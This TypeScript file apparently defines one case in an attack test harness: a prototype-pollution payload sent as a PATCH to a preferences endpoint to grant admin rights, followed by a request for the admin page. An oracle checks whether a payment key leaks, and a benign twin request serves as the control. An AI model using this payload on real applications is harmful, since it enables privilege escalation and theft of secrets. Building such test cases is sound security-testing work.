import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Opens the office page by setting a right on every object. */
export const prototypeProtoAdmin: Attack = defineAttack({
  id: 'prototype-proto-admin',
  class: 'prototype-pollution',
  title: 'Opens the office page by setting a right on every object',
  cwe: 1321,
  capec: 77,
  technique: 'T1190',
  preconditions: [],

  steps: async ({ visitor }) => {
    const body = '{"theme":"dark","__proto__":{"admin":true}}'
    const headers = { 'content-type': 'application/json' }
    await visitor.send({ method: 'PATCH', path: '/api/preferences', headers, body })
    return visitor.get('/admin')
  },
  oracle: (answer, { witness }) => answer.text.includes(witness.loot.paymentKey),
  twin: ({ visitor }) =>
    visitor.json('/api/preferences', { theme: 'dark', proto: { type: 'tent' } }, 'PATCH'),
})
